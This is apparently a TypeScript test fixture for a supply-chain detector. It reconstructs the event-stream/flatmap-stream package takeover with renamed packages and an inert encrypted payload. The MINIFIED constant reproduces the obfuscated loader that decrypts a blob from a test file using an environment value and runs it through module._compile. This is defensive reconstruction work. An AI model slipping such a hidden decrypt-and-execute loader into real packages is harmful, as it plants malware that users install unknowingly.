/**
 * Reconstructions of public takeover write-ups (names changed, hosts `.invalid`, payloads inert),
 * and benign look-alikes. Provenance: the write-up each one follows.
 */
import { person, type Reconstruction, type ReleaseSpec } from './reconstruct.js';

const LIB = "'use strict';\nvar Stream = require('stream');\nmodule.exports = function merge(a, b) { return a.concat(b); };\n";
const hex = (n: number, seed: number): string => Array.from({ length: n }, (_, i) => ((i * 7919 + seed * 104729) % 256).toString(16).padStart(2, '0')).join('');
/** One long minified line that reads an encrypted blob from a "test" file (the flatmap-stream loader shape). */
const MINIFIED = `!function(){try{var r=require,t=process;function e(r){return Buffer.from(r,"hex").toString()}var n=r(e("2e2f746573742f64617461")),o=t[e(${JSON.stringify(Buffer.from('env').toString('hex'))})][e(${JSON.stringify(Buffer.from('npm_package_description').toString('hex'))})],u=r(e(${JSON.stringify(Buffer.from('crypto').toString('hex'))}))[e(${JSON.stringify(Buffer.from('createDecipher').toString('hex'))})](e("6165732d3235362d636263"),o),a=u.update(n[0],e("686578"),e("75746638"));a+=u.final(e("75746638"));var f=new module.constructor;f.paths=module.paths,f[e("5f636f6d70696c65")](a,""),f.exports(n[1])}catch(r){}}();var Stream=require("stream");module.exports=function(r){var t=new Stream.Transform({objectMode:!0});return t._transform=function(t,e,n){var o=this;Promise.resolve(r(t)).then(function(r){(Array.isArray(r)?r:[r]).forEach(function(r){o.push(r)}),n()},n)},t};${'t.push(r[0]);'.repeat(80)}\nrequire("./test/data");\n`;
const DATA = `module.exports = [\n  "${hex(700, 1)}",\n  "${hex(300, 2)}"\n];\n`;

const rel = (version: string, publisher: string, time: string, extra: Partial<ReleaseSpec> = {}): ReleaseSpec => ({ version, publisher, time, files: { 'index.js': LIB }, dependencies: { 'through-lite': '^2.3.1' }, ...extra });

/** event-stream 3.3.5/3.3.6 → flatmap-stream 0.1.1 (Sep–Nov 2018). */
export const DORMANT_HANDOVER_PAYLOAD_DEPENDENCY: Reconstruction = {
  id: 'dormant-handover-payload-dependency',
  family: 'handover + new payload dependency',
  provenance: 'event-stream incident write-ups (GitHub dominictarr/event-stream#116, Nov 2018; npm blog "Details about the event-stream incident", Nov 2018): the author handed a dormant package to a volunteer who added a brand-new dependency by another new account; its next release shipped a minified entry point and an encrypted test/data.js absent from its repository.',
  packages: [
    { name: 'through-lite', releases: [rel('2.3.1', 'tess', '2014-05-01T10:00:00.000Z', { dependencies: {} })] },
    {
      name: 'stream-joiner',
      releases: [
        rel('3.3.2', 'alice', '2015-03-01T10:00:00.000Z'),
        rel('3.3.3', 'alice', '2015-09-01T10:00:00.000Z'),
        rel('3.3.4', 'alice', '2016-01-10T10:00:00.000Z'),
        rel('3.3.5', 'mallory', '2018-09-04T10:00:00.000Z', { maintainers: ['alice', 'mallory'] }),
        rel('3.3.6', 'mallory', '2018-09-09T10:00:00.000Z', { maintainers: ['alice', 'mallory'], dependencies: { 'through-lite': '^2.3.1', 'flat-map-lite': '^0.1.0' } }),
      ],
    },
    {
      name: 'flat-map-lite',
      releases: [
        { version: '0.1.0', publisher: 'flatdev', time: '2018-09-05T08:00:00.000Z', main: 'index.js', files: { 'index.js': LIB } },
        { version: '0.1.1', publisher: 'flatdev', time: '2018-10-05T08:00:00.000Z', main: 'index.min.js', files: { 'index.js': LIB, 'index.min.js': MINIFIED, 'test/data.js': DATA } },
      ],
    },
  ],
  locked: { 'stream-joiner': '3.3.6', 'flat-map-lite': '0.1.1', 'through-lite': '2.3.1' },
  edges: { 'stream-joiner': ['flat-map-lite', 'through-lite'] },
  sources: {
    'flat-map-lite': [
      { author: person('flatdev'), date: '2018-09-05T07:00:00Z', message: 'initial', files: { 'index.js': LIB, 'README.md': '# flat-map-lite\n', 'package.json': '{"name":"flat-map-lite","version":"0.1.0","main":"index.js"}\n' }, tag: 'v0.1.0' },
      { author: person('flatdev'), date: '2018-10-05T07:00:00Z', message: '0.1.1', files: { 'package.json': '{"name":"flat-map-lite","version":"0.1.1","main":"index.js"}\n', 'test/index.js': "require('../index.js');\n" }, tag: 'v0.1.1' },
    ],
  },
  expect: { subject: 'stream-joiner@3.3.6', names: ['mallory', 'flat-map-lite', 'index.min.js', 'test/data.js'] },
};
